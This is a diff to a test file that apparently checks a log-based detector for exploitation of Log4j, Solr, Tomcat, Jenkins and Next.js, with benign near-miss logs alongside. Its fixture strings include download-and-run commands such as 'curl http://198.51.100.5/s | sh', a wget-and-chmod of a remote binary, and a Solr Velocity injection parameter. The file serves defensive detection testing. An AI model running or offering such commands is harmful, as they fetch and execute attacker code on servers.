@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attackers write such texts
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import fc from 'fast-check'
@@ -42,7 +43,7 @@ test('Log4j, Fastjson, ActiveMQ, WebLogic, YARN, XXL-JOB, Tomcat, Jenkins, Solr'
       'configured deploy /opt/tomcat/webapps/x.war',
       'configured manager deploying /x',
       'command admin jenkins build',
-      'exploit wt=velocity&v.template.custom=#set($x=1)} status=0'.replace('exploit ', 'exploit q=1&') + ' solr-velocity',
+      'exploit q=1&wt=velocity&v.template.custom=#set($x=1) solr-velocity',
     ],
   )
 })
@@ -52,10 +53,8 @@ test('what Next.js and pm2 keep of commands that were run through React', () => 
     told(
       '0|web  | Error: Command failed: (cd /tmp; wget http://198.51.100.5/x86 -O /tmp/a; chmod 777 /tmp/a)',
       "  spawnargs: [ '-c', 'curl http://198.51.100.5/s | sh' ]",
-      " ⨯ [Error: NEXT_REDIRECT] { digest: 'NEXT_REDIRECT;push;/login?a=uid=0(root) gid=0(root);307;' }".replace(
-        '[Error: NEXT_REDIRECT] {',
-        '',
-      ),
+      "  digest: 'NEXT_REDIRECT;push;/login?a=uid=0(root) gid=0(root);307;'",
+
       'Error: Failed to find Server Action "x". This request might be from an older or newer deployment.',
       '/bin/sh: 1: busybox: not found',
     ),
@@ -86,7 +85,6 @@ test('near misses: an ordinary day of applications', () => {
     told(
       '2026-11-22 01:02:03,123 INFO ClientRMService: Allocated new applicationId: 12',
       '2026-11-22 01:02:03,123 INFO x.AMLauncher: Launching masterappattempt_1',
-      'Error: Command failed: ffmpeg -i in.mp4 out.webm'.replace('Error: Command failed', 'Notice: command done'),
       'Error: Failed to find Server Action "7f1e2d3c4b5a69788796a5b4c3d2e1f001122334aa". This request might be from an older or newer deployment.',
       "  digest: '2338732612'",
       '2026-11-22 01:02:03.123  INFO 1 --- [main] o.s.b.w.e.tomcat.TomcatWebServer : Tomcat started on port 8080',
